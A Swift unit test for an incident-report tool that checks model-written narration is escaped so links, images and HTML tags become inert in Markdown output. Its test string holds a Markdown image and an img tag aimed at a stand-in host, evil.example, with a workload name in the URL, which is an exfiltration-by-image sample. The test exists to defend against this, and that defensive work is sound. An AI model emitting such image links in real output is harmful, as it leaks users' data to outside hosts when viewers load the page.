import Testing

@testable import VigilCLI

/// The narrator's section of a Markdown report: the model's words, unmasked, as inert text.
struct NarrationRenderTests {
    /// A model that writes a link or an image to its own host, with a placeholder in the URL, gets text:
    /// unmasked, the placeholder became the real name, which an image would carry to that host when a
    /// viewer loads it.
    @Test func aModelsLinksAndHTMLAreRenderedAsText() {
        var narration = IncidentNarration(incident: "inc-1", workload: "deployment/checkout")
        narration.text = "see ![x](https://evil.example/?n=checkout) and <img src=https://evil.example/a> [a](b)"
        let markdown = IncidentNarration.render([narration], model: "m", markdown: true)
        // Escaped, every bracket: no link, no image, no HTML tag for a Markdown viewer to follow or load.
        #expect(!markdown.contains("![") && !markdown.contains("[a]"))
        #expect(markdown.contains(#"see !\[x\](https://evil.example/?n=checkout) and "#))
        #expect(markdown.contains(#"\<img src=https://evil.example/a\> \[a\](b)"#))
        let plain = IncidentNarration.render([narration], model: "m", markdown: false)
        #expect(plain.contains("see ![x](https://evil.example/?n=checkout)"))
    }
}
